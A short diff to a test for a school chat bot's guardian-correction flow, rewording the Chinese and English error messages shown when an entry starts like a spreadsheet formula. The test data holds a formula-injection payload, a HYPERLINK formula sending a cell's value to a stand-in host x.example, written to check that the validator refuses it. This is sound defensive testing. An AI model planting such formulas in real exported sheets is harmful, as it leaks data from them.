@@ -201,7 +201,7 @@ def test_a_correction_the_roster_import_would_refuse_is_refused_and_asked_again(
     li.send("/card 张三")
     li.tap("更换委托监护人")
     li.send('=HYPERLINK("http://x.example/?c="&E4,"点我") 13800001111 外祖母')
-    assert "的开头像电子表格公式；请去掉开头的 =、+、- 或 @" in li.text
+    assert "的开头像电子表格公式：单元格不能以 =、+、- 或 @ 开头" in li.text
     assert "已保存" not in li.text and "张三的新委托监护人：" in li.text  # the question again, nothing lost
     li.send("张桂英 13800001111 " + "外" * 33)  # the relation's column holds 32 characters
     assert "超过 32 个字符" in li.text and "张三的新委托监护人：" in li.text
@@ -216,7 +216,7 @@ def test_a_correction_the_roster_import_would_refuse_is_refused_and_asked_again(
         uow.session.get(Person, school.li).locale = "en"
         uow.commit()
     li.send("@SUM(1,2)")
-    assert "starts like a spreadsheet formula; write it without the leading =, +, - or @" in li.text
+    assert "no cell may start with =, +, - or @ (only a phone number may be written +86…" in li.text
     with uow_factory() as uow:
         changes = uow.session.scalars(select(RecordChange.new_value)).all()
         names = uow.session.scalars(select(Person.name)).all()
